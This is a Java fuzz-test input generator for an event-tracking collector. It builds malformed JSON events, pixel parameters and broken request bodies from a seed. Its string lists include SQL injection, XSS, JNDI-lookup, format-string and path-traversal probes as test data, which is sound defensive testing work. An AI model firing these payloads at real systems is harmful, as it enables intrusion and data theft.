package io.trackpipe.collector;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.AbstractMap;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Hostile input for the collector's routes, derived from one seed: events generated from the schema, then mutated
 * (wrong types, missing, unknown and repeated fields, SQL-looking and control-character strings, odd unicode, huge
 * values, deep nesting, broken bytes), pixel query parameters, and whole request bodies with broken framing. The same
 * seed gives the same inputs, so a failure can be replayed with {@code -Dtrackpipe.fuzz.seed=…}.
 */
final class FuzzInputs {
  private static final List<String> FIELDS =
      TestDomains.JOB_ADS.jobAds().schema().fieldNames();
  private static final List<String> UNKNOWN_FIELDS = List.of("cb", "clicks", "JOB_ID", "job_id ", "job_id; DROP TABLE events",
      "' OR 1=1 --", "__proto__", "constructor", "utm_source[]", "a=b", "", " ", "\u0000", "\u202ejob_id", "j\u00f6b_id",
      "\ud83d\ude00", "x".repeat(300));
  private static final List<String> TEXTS = List.of("", " ", "click", "conversion", "qualified", "unqualified",
      "impression", "apply_start", "save_job", "CLICK", "' OR '1'='1", "1; DROP TABLE events; --", "\" OR \"\"=\"",
      "1' UNION SELECT password FROM mysql.user --", "<script>alert(1)</script>", "${jndi:ldap://x.invalid/a}", "%s%s%n",
      "../../../etc/passwd", "NULL", "null", "\u0000", "a\u0000b", "\u001b[31mred\u001b[0m", "\u0007\u0008\u000b\u000c",
      "\u007f\u0085\u009f", "\u202eevil\u202c", "\u200b\u200d\ufeff", "e\u0301\u0301\u0301", "\ud83d\ude00", "\ud835\udd4f",
      "\ud800", "\udfff", "\uffff\ufffe", "\u00df\u0130\u0131", "\u4e2d\u6587", "\u0663\u0664", "\u0000".repeat(20),
      "\\", "\\\\\"", "'", "\"", "\t", "\r", "\n", "https://jobs.example.com/j/1?a=b&c=%zz");
  private static final List<String> NUMBERS = List.of("0", "-1", "1", "7", "42", "1532", "9223372036854775807",
      "9223372036854775808", "-9223372036854775809", "123456789012345678901234567890", "1e309", "-1e309", "1.5", "0.85",
      "0.000001", "1E2", "1e-400", "-0", "0.0", "00", "007", "0x1F", "NaN", "Infinity", "-Infinity", "1.", ".5", "+1",
      "1_000", "2e9", "99999999999.999999", "0.1234567890123456789");
  private static final String SEPARATORS = "{}[]:,\"\\ \t";

  private final Random random;

  FuzzInputs(long seed) {
    this.random = new Random(seed);
  }

  // ---- events ---------------------------------------------------------------------------------------------------

  /** One event's bytes, without line breaks (it goes on a line of its own) and never blank. */
  byte[] event() {
    byte[] bytes = mutateBytes(eventText().getBytes(StandardCharsets.UTF_8));
    for (int i = 0; i < bytes.length; i++) {
      if (bytes[i] == '\n' || bytes[i] == '\r') bytes[i] = ' ';
    }
    boolean blank = true;
    for (byte b : bytes) blank &= b == ' ' || b == '\t';
    return blank ? "{ }".getBytes(StandardCharsets.US_ASCII) : bytes;
  }

  private String eventText() {
    int shape = random.nextInt(100);
    if (shape < 3) return pick(List.of("[]", "[1,2]", "\"a string\"", "42", "null", "true", "{}", "{\"job_id\":1}]",
        "{\"job_id\":1", "{job_id:1}", "{'job_id':1}", "{\"job_id\":1,}", "{\"job_id\" 1}", "{\"job_id\":01}",
        "{\"job_id\":1}{\"job_id\":2}", "{\"job_id\":1} trailing", "\ufeff{\"job_id\":1}"));
    if (shape < 5) return deeplyNested();
    List<Map.Entry<String, String>> fields = new ArrayList<>();
    if (random.nextInt(10) > 0) fields.add(field("create_time", jsonString("fz-" + Long.toHexString(random.nextLong()))));
    if (random.nextInt(10) > 0) fields.add(field("ts", timestamp()));
    for (String name : List.of("job_id", "publisher_id", "campaign_id", "group_id")) {
      if (random.nextInt(4) > 0) fields.add(field(name, Long.toString(1 + random.nextInt(5000))));
    }
    if (random.nextBoolean()) fields.add(field("bid", String.format(java.util.Locale.ROOT, "%.2f", random.nextDouble() * 3)));
    if (random.nextInt(4) > 0) fields.add(field("custom_track", jsonString(pick(List.of("click", "conversion",
        "qualified", "unqualified", "impression", "apply_start", "")))));
    for (int i = random.nextInt(4); i > 0; i--) {
      String name = pick(List.of("dl", "dt", "uid", "ua", "utm_source", "utm_campaign", "rl", "sr", "v"));
      fields.add(field(name, jsonString(text(40))));
    }
    int mutations = random.nextInt(10) < 3 ? 0 : 1 + random.nextInt(3);
    for (int i = 0; i < mutations; i++) mutate(fields);
    StringBuilder json = new StringBuilder("{");
    for (int i = 0; i < fields.size(); i++) {
      if (i > 0) json.append(',');
      json.append(jsonString(fields.get(i).getKey())).append(':').append(fields.get(i).getValue());
    }
    return json.append('}').toString();
  }

  private void mutate(List<Map.Entry<String, String>> fields) {
    int kind = random.nextInt(11);
    int at = fields.isEmpty() ? 0 : random.nextInt(fields.size());
    switch (kind) {
      case 0 -> {
        if (!fields.isEmpty()) fields.remove(at);
      }
      case 1 -> fields.add(random.nextInt(fields.size() + 1), field(pick(UNKNOWN_FIELDS), anyValue()));
      case 2 -> {
        if (!fields.isEmpty()) fields.add(field(fields.get(at).getKey(), anyValue()));
      }
      case 3, 4 -> {
        if (!fields.isEmpty()) fields.set(at, field(fields.get(at).getKey(), anyValue()));
      }
      case 5 -> fields.add(field(pick(FIELDS), anyValue()));
      case 6 -> fields.add(field(pick(List.of("dl", "dt", "ua", "uid")), jsonString("x".repeat(pick(List.of(8192, 8193,
          9000, 70_000))))));
      case 7 -> fields.add(field(pick(FIELDS), deeplyNested()));
      case 8 -> fields.add(field("ts", timestamp()));
      case 9 -> fields.add(field(pick(FIELDS), rawString(pick(TEXTS))));
      default -> fields.add(field(pick(FIELDS), "null"));
    }
  }

  private String anyValue() {
    return switch (random.nextInt(9)) {
      case 0, 1 -> pick(NUMBERS);
      case 2, 3 -> jsonString(pick(TEXTS));
      case 4 -> jsonString(text(200));
      case 5 -> pick(List.of("true", "false", "null", "[]", "{}", "[1,\"a\"]", "{\"a\":1}", "\"\"", "[[[]]]"));
      case 6 -> timestamp();
      case 7 -> jsonString(pick(NUMBERS));
      default -> rawString(pick(TEXTS));
    };
  }

  private String timestamp() {
    Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
    return switch (random.nextInt(14)) {
      case 0, 1, 2 -> jsonString(now.toString());
      case 3 -> Long.toString(now.toEpochMilli());
      case 4 -> jsonString(Long.toString(now.toEpochMilli()));
      case 5 -> jsonString(now.minus(1, ChronoUnit.HOURS).toString());
      case 6 -> jsonString(now.plus(2, ChronoUnit.HOURS).toString());
      case 7 -> jsonString(now.minus(400, ChronoUnit.DAYS).toString());
      case 8 -> jsonString(now.toString().replace("Z", "+07:00"));
      case 9 -> jsonString(now.toString().replace("Z", "").replace('T', ' '));
      case 10 -> jsonString(pick(List.of("2026-13-45T00:00:00Z", "yesterday", "", "0", "2026-02-30 10:00:00",
          "9999-12-31T23:59:59Z", "0000-01-01T00:00:00Z", "2026-01-01T24:00:00Z", "1970-01-01T00:00:00Z")));
      case 11 -> Long.toString(now.getEpochSecond());
      case 12 -> pick(List.of("0", "-1", "253402300800000", "1.5e12", "9223372036854775807", "-9223372036854775808"));
      default -> pick(NUMBERS);
    };
  }

  private String deeplyNested() {
    int depth = pick(List.of(10, 64, 65, 500, 1001, 5000));
    String open = random.nextBoolean() ? "[" : "{\"a\":";
    String close = open.equals("[") ? "]" : "}";
    return open.repeat(depth) + "1" + close.repeat(depth);
  }

  /** Byte-level damage to a serialized event, for some of them. */
  private byte[] mutateBytes(byte[] bytes) {
    if (random.nextInt(10) >= 2 || bytes.length == 0) return bytes;
    int at = random.nextInt(bytes.length);
    return switch (random.nextInt(7)) {
      case 0 -> Arrays.copyOf(bytes, at);
      case 1 -> {
        byte[] copy = bytes.clone();
        copy[at] = (byte) random.nextInt(256);
        yield copy;
      }
      case 2 -> insert(bytes, at, new byte[] {(byte) SEPARATORS.charAt(random.nextInt(SEPARATORS.length()))});
      case 3 -> insert(bytes, at, new byte[] {pick(List.of(0xC3, 0xFF, 0xFE, 0x80, 0xED, 0xF4, 0xC0)).byteValue()});
      case 4 -> {
        int end = Math.min(bytes.length, at + 1 + random.nextInt(8));
        byte[] out = new byte[bytes.length - (end - at)];
        System.arraycopy(bytes, 0, out, 0, at);
        System.arraycopy(bytes, end, out, at, bytes.length - end);
        yield out;
      }
      case 5 -> insert(bytes, at, Arrays.copyOfRange(bytes, at, Math.min(bytes.length, at + 1 + random.nextInt(16))));
      default -> insert(bytes, 0, new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
    };
  }

  // ---- pixel -----------------------------------------------------------------------------------------------------

  /** A pixel's query parameters (without the write key); values may hold anything, names too. */
  List<Map.Entry<String, String>> pixelParameters() {
    List<Map.Entry<String, String>> parameters = new ArrayList<>();
    if (random.nextInt(3) > 0) parameters.add(field("job_id", random.nextInt(8) == 0 ? pick(NUMBERS) : "" + random.nextInt(5000)));
    if (random.nextBoolean()) parameters.add(field("publisher_id", "" + random.nextInt(50)));
    if (random.nextBoolean()) parameters.add(field("custom_track", pick(List.of("click", "conversion", "impression", ""))));
    if (random.nextInt(3) == 0) parameters.add(field("bid", random.nextInt(5) == 0 ? pick(NUMBERS) : "0.5"));
    for (int i = random.nextInt(4); i > 0; i--) {
      String name = random.nextInt(6) == 0 ? pick(UNKNOWN_FIELDS) : pick(FIELDS);
      String value = switch (random.nextInt(5)) {
        case 0 -> pick(NUMBERS);
        case 1 -> text(100);
        case 2 -> Long.toString(System.currentTimeMillis() + (random.nextInt(3) - 1) * 3_600_000L);
        default -> pick(TEXTS);
      };
      parameters.add(field(withoutLoneSurrogates(name), withoutLoneSurrogates(value)));
    }
    return parameters;
  }

  /** Damage to an encoded query that no decoder can undo ({@code %zz}, a cut escape), or null to leave it. */
  String brokenEscape() {
    return random.nextInt(8) == 0 ? pick(List.of("%zz", "%", "%f", "%G1", "%%", "%z")) : null;
  }

  int nextInt(int bound) {
    return random.nextInt(bound);
  }

  // ---- whole bodies ----------------------------------------------------------------------------------------------

  /** A whole request body: broken arrays, garbage, blank, mixed framing. */
  byte[] body() {
    return switch (random.nextInt(9)) {
      case 0 -> {
        byte[] garbage = new byte[random.nextInt(2000)];
        random.nextBytes(garbage);
        yield garbage;
      }
      case 1 -> pick(List.of("", " ", "\n\n", "\r\n", "\t \n")).getBytes(StandardCharsets.UTF_8);
      case 2 -> ("[".repeat(pick(List.of(63, 64, 65, 1000, 20_000))) + "]".repeat(random.nextInt(3) * 10))
          .getBytes(StandardCharsets.US_ASCII);
      case 3 -> mutateBytes(("[" + new String(event(), StandardCharsets.UTF_8) + "," + new String(event(),
          StandardCharsets.UTF_8) + "]").getBytes(StandardCharsets.UTF_8));
      case 4 -> pick(List.of("[]", "[", "]", "[,]", "[{},]", "[{}{}]", "[{}] x", "[\"unclosed]", "[{\"a\":\"\\\"}]",
          "[{}],[{}]", "[]\n{}", "[\u0000]", "[null]", "[[{}]]")).getBytes(StandardCharsets.UTF_8);
      case 5 -> {
        StringBuilder lines = new StringBuilder();
        for (int i = random.nextInt(20); i >= 0; i--) {
          lines.append(new String(event(), StandardCharsets.UTF_8)).append(random.nextBoolean() ? "\r\n" : "\n");
        }
        yield lines.toString().getBytes(StandardCharsets.UTF_8);
      }
      case 6 -> ("{\"job_id\":1}\n".repeat(1001 + random.nextInt(10))).getBytes(StandardCharsets.US_ASCII);
      case 7 -> ("[" + new String(event(), StandardCharsets.UTF_8) + "]").getBytes(StandardCharsets.UTF_16);
      default -> mutateBytes(("[" + "{\"job_id\":1},".repeat(random.nextInt(50)) + "{}]").getBytes(StandardCharsets.UTF_8));
    };
  }

  // ---- text ------------------------------------------------------------------------------------------------------

  private String text(int maxChars) {
    if (random.nextInt(4) == 0) return pick(TEXTS);
    StringBuilder text = new StringBuilder();
    for (int i = random.nextInt(maxChars + 1); i > 0; i--) {
      int kind = random.nextInt(10);
      int codePoint = switch (kind) {
        case 0 -> random.nextInt(0x20);
        case 1 -> 0x80 + random.nextInt(0x780);
        case 2 -> 0x4E00 + random.nextInt(0x5000);
        case 3 -> 0x1F300 + random.nextInt(0x300);
        case 4 -> pick(List.of(0x202E, 0x200B, 0xFEFF, 0x0301, 0xFFFD, 0x2028, 0x2029, 0x10FFFF));
        default -> 0x20 + random.nextInt(0x5F);
      };
      text.appendCodePoint(codePoint);
    }
    return text.toString();
  }

  /** A JSON string literal: quotes, backslashes and control characters escaped, lone surrogates as escapes. */
  static String jsonString(String text) {
    StringBuilder out = new StringBuilder(text.length() + 2).append('"');
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20 || Character.isSurrogate(c) && !pairedAt(text, i)) {
        out.append(String.format("\\u%04x", (int) c));
      } else if (Character.isHighSurrogate(c)) {
        out.append(c).append(text.charAt(++i));
      } else {
        out.append(c);
      }
    }
    return out.append('"').toString();
  }

  /** A string literal with its control characters raw, which JSON forbids (line breaks aside: they split lines). */
  private static String rawString(String text) {
    return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\r", "\\r") + "\"";
  }

  private static boolean pairedAt(String text, int i) {
    char c = text.charAt(i);
    return Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1));
  }

  private static String withoutLoneSurrogates(String text) {
    StringBuilder out = new StringBuilder(text.length());
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (pairedAt(text, i)) {
        out.append(c).append(text.charAt(++i));
      } else if (!Character.isSurrogate(c)) {
        out.append(c);
      }
    }
    return out.toString();
  }

  private static Map.Entry<String, String> field(String name, String value) {
    return new AbstractMap.SimpleImmutableEntry<>(name, value);
  }

  private static byte[] insert(byte[] bytes, int at, byte[] inserted) {
    byte[] out = new byte[bytes.length + inserted.length];
    System.arraycopy(bytes, 0, out, 0, at);
    System.arraycopy(inserted, 0, out, at, inserted.length);
    System.arraycopy(bytes, at, out, at + inserted.length, bytes.length - at);
    return out;
  }

  private <T> T pick(List<T> choices) {
    return choices.get(random.nextInt(choices.size()));
  }
}
